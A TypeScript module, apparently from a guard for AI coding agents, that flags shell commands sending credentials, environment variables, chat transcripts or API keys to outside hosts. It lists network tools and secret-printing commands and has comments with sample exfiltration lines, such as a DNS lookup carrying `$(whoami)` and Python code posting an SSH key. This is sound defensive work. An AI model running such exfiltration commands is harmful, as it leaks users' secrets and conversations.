import { hostKind, urlParts } from '../hosts.js';
import { pathDanger } from '../paths.js';
import { programName, programOf, type SimpleCommand } from './words.js';

/** A command line that sends away what it should not. */
export interface Leak {
  readonly does: string;
  readonly excerpt: string;
}

const senders =
  /^(?:curl|wget|nc|ncat|netcat|socat|scp|rsync|ftp|sftp|http|https|xh|dig|nslookup|host|ping|mail|sendmail|iwr|irm|invoke-webrequest|invoke-restmethod)$/;

/** True when a command talks to this machine alone. */
export const isLoopbackOnly = (command: SimpleCommand): boolean => {
  const urls = command.words.flatMap((w) => urlParts(w) ?? []);
  return urls.length > 0 && urls.every((url) => hostKind(url.host) === 'loopback');
};

/** What is started in the end: `xargs -I{} dig {}` is a dig. */
function startedBy(command: SimpleCommand): string {
  const program = programOf(command);
  if (!/^(?:xargs|parallel|env|sudo|doas|timeout|nohup|time|exec|command)$/.test(program)) return program;
  const inner = command.words.slice(1).find((word) => senders.test(programName(word)));
  return inner === undefined ? program : programName(inner);
}

/** A record of what was said and done: `$CLAUDE_TRANSCRIPT_PATH`, `~/.claude/projects/…/x.jsonl`. */
const conversation = /transcript|\.claude[\\/]projects|\.codex[\\/]sessions|chat[-_]?history|conversation/i;

/** Commands that print secrets: key rings, log-in tools, what was typed before. */
const printers: readonly RegExp[] = [
  /^security find-(?:generic|internet)-password\b/,
  /^secret-tool (?:lookup|search)\b/,
  /^(?:pass|gopass) (?:show|ls)?\b/,
  /^op (?:read|item get)\b/,
  /^gh auth token\b/,
  /^gcloud auth print-\w+-token\b/,
  /^aws configure (?:get|export-credentials)\b/,
  /^kubectl config view\b.*--raw/,
  /^gpg2? .*--export-secret/,
  /^(?:history|fc -l)\b/,
  /^(?:env|printenv|set|export -p|declare -x)$/,
];

const printsSecrets = ({ words }: SimpleCommand): boolean => {
  const line = words.join(' ').slice(0, 200);
  return printers.some((printer) => printer.test(line));
};

/** Whose key a variable holds, and where it may go. */
const owners: readonly (readonly [variable: RegExp, host: RegExp])[] = [
  [/^ANTHROPIC_|^CLAUDE_/, /anthropic\.com$|claude\.ai$/],
  [/^OPENAI_/, /openai\.(?:com|azure\.com)$/],
  [/^(?:GITHUB|GH)_/, /github(?:usercontent)?\.com$/],
  [/^AWS_/, /amazonaws\.com$/],
  [/^NPM_/, /npmjs\.(?:org|com)$/],
  [/^HF_|^HUGGING/, /huggingface\.co$/],
];

/** A key of one company in a request to another. */
function strayKey({ words }: SimpleCommand): Leak | undefined {
  const host = words.flatMap((word) => urlParts(word)?.host ?? [])[0];
  if (host === undefined || hostKind(host) === 'loopback') return undefined;
  for (const word of words) {
    for (const [, variable = ''] of word.matchAll(/\$\{?([A-Z][A-Z0-9_]{3,60})/g)) {
      const owner = owners.find(([names]) => names.test(variable))?.[1];
      const isKey = /KEY|TOKEN|SECRET|PASSWORD/.test(variable);
      if (owner !== undefined && isKey && !owner.test(host))
        return { does: `sends ${variable} to ${host}`, excerpt: variable };
    }
  }
  return undefined;
}

/** `dig $(whoami).x.example`: what is looked up carries data. */
function lookUp(commands: readonly SimpleCommand[]): Leak | undefined {
  const at = commands.findIndex((c) => /^(?:dig|nslookup|host|ping)$/.test(programOf(c)));
  const inside = commands[at + 1]?.after ?? '';
  const behind = commands.slice(at + 2).find(({ after }) => after === ')' || after === '`');
  const name = commands[at]?.words[0];
  return at >= 0 && name !== undefined && /^(?:\$\(|`)$/.test(inside) && /^\.\w/.test(behind?.words[0] ?? '')
    ? { does: 'sends data in the names that it looks up', excerpt: name }
    : undefined;
}

/** Code in a line that posts a file of credentials or all variables: `python3 -c "urlopen(…, data=open('~/.ssh/id_rsa'))"`. */
function postedByCode(commands: readonly SimpleCommand[]): Leak | undefined {
  const posts =
    /urlopen|requests\.(?:post|put)|httpx\.(?:post|put)|http\.client|fetch\(|https?\.request|Net::HTTP/;
  for (const word of commands.flatMap((c) => c.words)) {
    if (!posts.test(word)) continue;
    if (/dict\(os\.environ\)|json\.dumps\(os\.environ|JSON\.stringify\(process\.env\)|ENV\.to_h/.test(word))
      return { does: 'sends the environment, keys included, over the network', excerpt: 'env' };
    const file = [...word.matchAll(/[~\w./${}-]{3,120}/g)].find(
      ([path]) => pathDanger(path, 'read') === 'credentials',
    );
    if (file !== undefined) return { does: 'sends a file of credentials over the network', excerpt: file[0] };
  }
  return undefined;
}

/** Credentials or conversations read and data sent in one line. */
export function leakOf(commands: readonly SimpleCommand[]): Leak | undefined {
  const code = postedByCode(commands) ?? lookUp(commands);
  if (code !== undefined) return code;
  const sender = commands.find((c) => senders.test(startedBy(c)) && !isLoopbackOnly(c));
  if (sender === undefined) return undefined;
  const all = commands.flatMap((c) => c.words);
  const file = all
    .map((w) => w.replace(/^(?:@|.*=@|<)/, ''))
    .find((w) => !/^[a-z]+:\/\//i.test(w) && pathDanger(w, 'read') === 'credentials');
  if (file !== undefined) return { does: 'sends a file of credentials over the network', excerpt: file };
  const printer = commands.find(printsSecrets);
  if (printer !== undefined) {
    const what = /^(?:env|printenv|set|export|declare)$/.test(printer.words[0] ?? '')
      ? 'the environment, keys included,'
      : 'secrets';
    return { does: `sends ${what} over the network`, excerpt: printer.words[0] ?? '' };
  }
  const talk = sender.words.find((w) => /^(?:@|.*=@)/.test(w) && conversation.test(w));
  if (talk !== undefined)
    return { does: 'sends the conversation over the network', excerpt: talk.replace(/^(?:@|.*=@)/, '') };
  const key = strayKey(sender);
  if (key !== undefined) return key;
  const drop = sender.words.find((w) => hostKind(urlParts(w)?.host ?? 'localhost') === 'drop');
  return drop !== undefined && sendsWhatItFinds(sender)
    ? { does: 'sends data to an address that anybody can open', excerpt: drop }
    : undefined;
}

/** Text that is written out ("the build is done") tells nothing; a file, a variable or what another program prints may. */
function sendsWhatItFinds({ words, after }: SimpleCommand): boolean {
  const piped = after === '|' || after === '|&';
  return words.some(
    (word, i) =>
      !/^[a-z]+:\/\//i.test(word) &&
      (/\$\(|\$\{?[A-Za-z_]/.test(word) ||
        /^@|=@/.test(word) ||
        (piped && /^@?-$/.test(word)) ||
        (/^(?:-T|--upload-file|-F|--form)$/.test(word) && /[@./]/.test(words[i + 1] ?? ''))),
  );
}
